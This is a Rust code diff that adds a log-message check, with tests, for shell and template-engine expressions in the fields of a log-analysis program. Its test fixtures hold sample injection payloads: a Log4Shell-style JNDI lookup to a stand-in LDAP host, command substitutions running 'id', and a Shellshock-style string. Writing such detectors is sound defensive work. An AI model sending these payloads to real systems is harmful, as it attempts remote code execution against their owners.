@@ -16,6 +16,17 @@ pub(super) fn tell_of_a_logon(message: &str) -> bool {
     (has_any(message, &OUTCOMES) && has_any(message, &SUBJECTS)) || has_any(message, &BOTH)
 }
 
+/// Whether a message holds an expression that a shell or a template engine would carry out: `${...}`, `$(...)`, a grave accent, `() {`. Messages
+/// with one are counted apart from the others of their program.
+pub(super) fn hold_an_expression(message: &str) -> bool {
+    let bytes = message.as_bytes();
+    memchr::memchr3_iter(b'$', b'`', b'{', bytes).any(|at| match bytes.get(at) {
+        Some(b'$') => matches!(bytes.get(at + 1), Some(b'{' | b'(')),
+        Some(b'{') => bytes.get(..at).is_some_and(|before| before.ends_with(b"() ")),
+        _ => true,
+    })
+}
+
 /// Whether a text holds one of these words, in capital or small letters. `login1` is a service of the system and no logon.
 fn has_any(text: &str, words: &[&str]) -> bool {
     let bytes = text.as_bytes();
@@ -30,7 +41,17 @@ fn has_any(text: &str, words: &[&str]) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::tell_of_a_logon;
+    use super::{hold_an_expression, tell_of_a_logon};
+
+    #[test]
+    fn messages_with_expressions_are_told_from_others() {
+        for message in ["GET /?x=${jndi:ldap://192.0.2.1/a}", "name=$(id)", "run `id`", "agent: () { :; }; echo"] {
+            assert!(hold_an_expression(message), "{message}");
+        }
+        for message in ["", "cost: 5$", "{\"a\": {}}", "price $5 (net)", "$"] {
+            assert!(!hold_an_expression(message), "{message}");
+        }
+    }
 
     #[test]
     fn messages_about_logons_are_told_from_others() {
